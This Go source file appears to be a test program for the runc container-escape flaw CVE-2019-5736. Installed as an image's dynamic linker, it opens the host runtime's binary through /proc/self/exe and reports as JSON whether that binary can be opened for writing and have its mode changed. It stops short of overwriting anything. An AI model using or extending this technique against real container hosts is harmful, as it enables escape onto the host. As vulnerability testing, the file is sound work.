// Command seize is a container's program that is the dynamic linker of an image. When the OCI runtime runs a program of
// the image that is a script for the interpreter /proc/self/exe, the kernel runs the runtime's own program once more, in
// the container, with this as its linker: then it can open that program, and tries to write to it (CVE-2019-5736).
package main

import (
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"strconv"
	"syscall"
	"time"
)

// report tells what became of it.
type report struct {
	Size   int64  // of the runtime's program
	Write  string // what opening it for writing ended with
	Change string // what changing its mode, to what it is, ended with
}

func main() {
	err := seize()
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(2)
	}
}

func seize() error {
	const keeps = "SEIZED"
	held := os.Getenv(keeps)
	if held == "" {
		fd, err := syscall.Open("/proc/self/exe", syscall.O_RDONLY, 0)
		if err != nil {
			return fmt.Errorf("opening the program that runs: %w", err)
		}
		// While the program runs nobody can write to it: what goes on is another one.
		return syscall.Exec("/lib64/ld-linux-x86-64.so.2", []string{"seize"}, append(os.Environ(), keeps+"="+strconv.Itoa(fd)))
	}
	fd, err := strconv.Atoi(held)
	if err != nil {
		return err
	}
	var status syscall.Stat_t
	if err := syscall.Fstat(fd, &status); err != nil {
		return err
	}
	found := report{Size: status.Size}
	for tries := 0; ; tries++ { // other containers may be made at this moment, or wait to begin, with the same program
		opened, err := syscall.Open("/proc/self/fd/"+held, syscall.O_WRONLY, 0)
		if errors.Is(err, syscall.ETXTBSY) && tries < 100 {
			time.Sleep(time.Millisecond)
			continue
		}
		found.Write = fmt.Sprint(err)
		if err == nil {
			syscall.Close(opened)
		}
		break
	}
	found.Change = fmt.Sprint(syscall.Fchmod(fd, status.Mode&0o7777))
	return json.NewEncoder(os.Stdout).Encode(found)
}
